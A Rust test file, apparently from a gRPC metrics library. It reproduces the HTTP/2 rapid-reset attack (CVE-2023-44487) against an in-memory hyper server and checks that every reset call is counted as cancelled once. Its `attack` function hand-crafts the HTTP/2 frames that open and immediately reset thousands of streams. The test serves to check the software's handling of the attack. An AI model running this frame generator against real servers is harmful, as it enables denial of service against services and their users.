//! Calls that HTTP/2 clients reset as soon as they have sent them (CVE-2023-44487), against a real hyper server.

use std::convert::Infallible;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use http::{Request, Response};
use hyper::body::Incoming;
use hyper::server::conn::http2;
use hyper_util::rt::{TokioExecutor, TokioIo};
use hyper_util::service::TowerToHyperService;
use mme_metrics::grpc::{CallType, Code, GrpcServerLayer, MessageBody};
use mme_metrics::metrics;
use mme_metrics::testing::Emission;
use mme_metrics_tests::grpc::{Calls, Script, method, streams};
use tokio::io::{AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::sync::Notify;
use tower::{Layer, service_fn};

const RESETS: u32 = 10_000;
/// Calls under way at once, well below the limit of streams.
const BATCH: u32 = 50;

const METHOD: &str = "desk.v1.Desk/Talk";

/// An HTTP/2 frame (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A text of HPACK, as it is.
fn text(text: &str) -> Vec<u8> {
    [&[u8::try_from(text.len()).unwrap()], text.as_bytes()].concat()
}

/// The head of a call, with `POST`, `http`, `:path` and `content-type` from the static table of HPACK; its messages are to come.
fn headers(stream: u32) -> Vec<u8> {
    let path = [&[0x04][..], &text(&format!("/{METHOD}"))].concat();
    let content_type = [&[0x0f, 0x10][..], &text("application/grpc")].concat();
    frame(1, 0x4, stream, &[&[0x83, 0x86][..], &path, &content_type].concat())
}

/// `RST_STREAM` with the code CANCEL.
fn reset(stream: u32) -> Vec<u8> {
    frame(3, 0, stream, &8_u32.to_be_bytes())
}

/// Sends all calls, and resets each batch after the server has seen it.
async fn attack(mut io: impl AsyncWrite + Unpin, arrived: Arc<AtomicU64>, arrival: Arc<Notify>) {
    io.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n").await.unwrap();
    io.write_all(&frame(4, 0, 0, &[])).await.unwrap();
    for batch in 0..RESETS / BATCH {
        let streams = || (batch * BATCH..(batch + 1) * BATCH).map(|number| 2 * number + 1);
        io.write_all(&streams().flat_map(headers).collect::<Vec<_>>()).await.unwrap();
        // Relaxed: all of this runs on one thread.
        while arrived.load(Ordering::Relaxed) < u64::from((batch + 1) * BATCH) {
            arrival.notified().await;
        }
        io.write_all(&streams().flat_map(reset).collect::<Vec<_>>()).await.unwrap();
    }
    io.shutdown().await.unwrap();
}

// The whole test runs on one thread, so that a recorder of that thread sees all of it.
#[tokio::test]
async fn every_call_that_was_reset_is_cancelled_once() {
    let emission = Emission::new();
    let _recorded = metrics::set_default_local_recorder(emission.recorder());
    let (arrived, arrival) = (Arc::new(AtomicU64::new(0)), Arc::new(Notify::new()));
    let never = {
        let (arrived, arrival) = (Arc::clone(&arrived), Arc::clone(&arrival));
        service_fn(move |_: Request<MessageBody<Incoming>>| {
            // Relaxed: all of this runs on one thread.
            arrived.fetch_add(1, Ordering::Relaxed);
            arrival.notify_one();
            std::future::pending::<Result<Response<Script>, Infallible>>()
        })
    };
    let layer = GrpcServerLayer::new().method(METHOD, CallType::BidiStream).unwrap();
    let service = TowerToHyperService::new(layer.layer(never));
    let (client, server) = tokio::io::duplex(64 * 1024);
    let (mut reader, writer) = tokio::io::split(client);
    let connection = http2::Builder::new(TokioExecutor::new()).serve_connection(TokioIo::new(server), service);
    let drain = async { reader.read_to_end(&mut Vec::new()).await };
    let ((), answered, _) = tokio::join!(attack(writer, arrived, arrival), connection, drain);
    answered.unwrap();
    // Streams are tasks; the last ones are told of the end in their next turn.
    tokio::task::yield_now().await;
    let (talk, kind, count) = (method(METHOD), CallType::BidiStream, u64::from(RESETS));
    let expectation = Calls::new(talk, kind, Code::Cancelled, count).expect(emission.expect());
    streams(expectation, talk, kind, count).only();
}
